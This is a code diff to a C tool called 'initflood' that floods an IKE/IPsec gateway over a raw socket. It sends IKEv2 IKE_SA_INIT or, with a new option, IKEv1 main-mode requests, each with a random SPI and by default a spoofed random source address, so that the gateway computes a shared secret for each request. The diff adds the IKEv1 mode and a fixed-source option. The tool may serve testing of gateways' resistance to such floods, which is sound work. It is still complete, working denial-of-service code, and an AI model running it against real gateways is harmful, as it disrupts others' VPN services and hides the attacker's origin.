@@ -1,12 +1,15 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
- * Begins IKE SAs with a gateway, each from another address and with an SPI of its own, and
- * answers nothing, as an attacker would who cannot see what comes back. The requests are
- * whole: a gateway that does not ask for a cookie computes a shared secret for each.
+ * Begins IKE SAs with a gateway, each with an SPI of its own and from another address, or all
+ * from one, and answers nothing, as an attacker would who cannot see what comes back. The
+ * requests are whole: a gateway that does not ask for a cookie computes a shared secret for
+ * each. Or, with -1, they are the first messages of IKEv1's main mode, which knows no cookies.
  */
 #include <arpa/inet.h>
 #include <err.h>
 #include <netinet/ip.h>
+#include <stdbool.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -36,8 +39,23 @@ static const uint8_t exchange[] = {
 	0x6b, 0x31, 0x5e, 0xce, 0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
 };
 
-_Static_assert(sizeof(proposal) == 40 && sizeof(exchange) == 72,
+/* Of main mode: AES-CBC-128, SHA2-256, ECP-256, a preshared key. */
+static const uint8_t phase1[] = {
+	0,    0, 0,    56,   0,	   0,	0,    1,    0,	  0,	0,    1,    0, 0,    0,
+	44,   1, 1,    0,    1,	   0,	0,    0,    36,	  1,	1,    0,    0, 0x80, 0x01,
+	0,    7, 0x80, 0x0e, 0,	   128, 0x80, 0x02, 0,	  4,	0x80, 0x04, 0, 19,   0x80,
+	0x03, 0, 1,    0x80, 0x0b, 0,	1,    0x80, 0x0c, 0x70, 0x80,
+};
+
+_Static_assert(sizeof(proposal) == 40 && sizeof(exchange) == 72 && sizeof(phase1) == 56,
 	       "as they say themselves");
+
+struct init {
+	uint8_t proposal[sizeof(proposal)];
+	uint8_t exchange[sizeof(exchange)];
+	uint8_t nonce_header[4];
+	uint8_t nonce[NONCE_LEN];
+} __attribute__((packed));
 
 struct request {
 	struct iphdr ip;
@@ -45,13 +63,21 @@ struct request {
 	uint8_t spi_i[8], spi_r[8];
 	uint8_t next, version, type, flags;
 	uint32_t mid, total;
-	uint8_t proposal[sizeof(proposal)];
-	uint8_t exchange[sizeof(exchange)];
-	uint8_t nonce_header[4];
-	uint8_t nonce[NONCE_LEN];
+	union {
+		struct init init;
+		uint8_t phase1[sizeof(phase1)];
+	};
 } __attribute__((packed));
 
 #define BEFORE_IKE (sizeof(struct iphdr) + 8)
+#define BEFORE_PAYLOADS offsetof(struct request, init)
+
+static void size(struct request *r, size_t len)
+{
+	r->ip.tot_len = htons(len);
+	r->len = htons(len - sizeof(struct iphdr));
+	r->total = htonl(len - BEFORE_IKE);
+}
 
 static void make(struct request *r, struct in_addr gateway)
 {
@@ -60,41 +86,66 @@ static void make(struct request *r, struct in_addr gateway)
 	r->ip.ihl = 5;
 	r->ip.ttl = 64;
 	r->ip.protocol = IPPROTO_UDP;
-	r->ip.tot_len = htons(sizeof(*r));
 	r->ip.daddr = gateway.s_addr;
 	r->source_port = r->port = htons(IKE_PORT);
-	r->len = htons(sizeof(*r) - sizeof(struct iphdr));
+}
+
+static void make_init(struct request *r)
+{
+	size(r, BEFORE_PAYLOADS + sizeof(r->init));
 	r->next = 33;
 	r->version = 0x20;
 	r->type = 34; /* IKE_SA_INIT */
 	r->flags = 0x08;
-	r->total = htonl(sizeof(*r) - BEFORE_IKE);
-	memcpy(r->proposal, proposal, sizeof(proposal));
-	memcpy(r->exchange, exchange, sizeof(exchange));
-	r->nonce_header[3] = 4 + NONCE_LEN;
+	memcpy(r->init.proposal, proposal, sizeof(proposal));
+	memcpy(r->init.exchange, exchange, sizeof(exchange));
+	r->init.nonce_header[3] = 4 + NONCE_LEN;
 }
 
-static void vary(struct request *r)
+static void make_main_mode(struct request *r)
+{
+	size(r, BEFORE_PAYLOADS + sizeof(r->phase1));
+	r->next = 1;
+	r->version = 0x10;
+	r->type = 2; /* identity protection */
+	memcpy(r->phase1, phase1, sizeof(phase1));
+}
+
+static void randomise(void *bytes, size_t len)
+{
+	if (getrandom(bytes, len, 0) != (ssize_t)len)
+		err(2, "random numbers");
+}
+
+/* With a source, all come from there. */
+static void vary(struct request *r, struct in_addr source)
 {
 	uint32_t host;
 
-	if (getrandom(r->spi_i, sizeof(r->spi_i), 0) != sizeof(r->spi_i) ||
-	    getrandom(r->nonce, sizeof(r->nonce), 0) != sizeof(r->nonce) ||
-	    getrandom(&host, sizeof(host), 0) != sizeof(host))
-		err(2, "random numbers");
-	r->ip.saddr = htonl(SOURCES | (host & SOURCES_MASK));
+	randomise(r->spi_i, sizeof(r->spi_i));
+	if (r->version == 0x20)
+		randomise(r->init.nonce, sizeof(r->init.nonce));
+	randomise(&host, sizeof(host));
+	r->ip.saddr =
+	    source.s_addr ? source.s_addr : htonl(SOURCES | (host & SOURCES_MASK));
 }
 
 int main(int argc, char **argv)
 {
 	struct sockaddr_in to = { .sin_family = AF_INET };
+	struct in_addr source = { 0 };
 	struct timespec pause = { 0 };
 	struct request r;
 	long rate, count;
+	bool main_mode;
 	int fd;
 
-	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
-		fprintf(stderr, "usage: initflood GATEWAY RATE COUNT\n");
+	main_mode = argc > 1 && !strcmp(argv[1], "-1");
+	argc -= main_mode;
+	argv += main_mode;
+	if ((argc != 4 && argc != 5) || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
+	    (argc == 5 && inet_pton(AF_INET, argv[4], &source) != 1)) {
+		fprintf(stderr, "usage: initflood [-1] GATEWAY RATE COUNT [SOURCE]\n");
 		return 2;
 	}
 	rate = atol(argv[2]);
@@ -106,9 +157,14 @@ int main(int argc, char **argv)
 	if (fd < 0)
 		err(2, "raw socket");
 	make(&r, to.sin_addr);
+	if (main_mode)
+		make_main_mode(&r);
+	else
+		make_init(&r);
 	for (long i = 0; i < count; i++) {
-		vary(&r);
-		if (sendto(fd, &r, sizeof(r), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
+		vary(&r, source);
+		if (sendto(fd, &r, ntohs(r.ip.tot_len), 0, (struct sockaddr *)&to,
+			   sizeof(to)) < 0)
 			err(1, "sending");
 		nanosleep(&pause, NULL);
 	}
